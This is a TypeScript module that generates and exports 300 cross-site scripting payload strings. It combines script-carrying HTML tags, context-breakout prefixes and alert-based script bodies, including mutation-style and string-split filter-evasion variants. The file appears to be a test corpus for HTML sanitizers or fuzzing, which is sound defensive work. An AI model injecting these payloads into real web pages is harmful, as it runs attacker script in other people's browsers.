/** Generated markup that would run a script in a page that took it for markup: 300 of them. */
const CALL = 'alert(document.domain)'
const CARRIERS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  (code) => `<body onload="${code}">`,
  (code) => `<details open ontoggle="${code}">x</details>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<math><mtext><style><img src=x onerror="${code}"></style></mtext></math>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
]
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '`}',
  '{{',
  '</pre>',
]
const CODES = [CALL, 'top.alert(1)', 'window["ale"+"rt"](1)']

export const PAYLOADS: readonly string[] = CARRIERS.flatMap((carry) =>
  BREAKOUTS.flatMap((before) => CODES.map((code) => before + carry(code))),
).slice(0, 300)
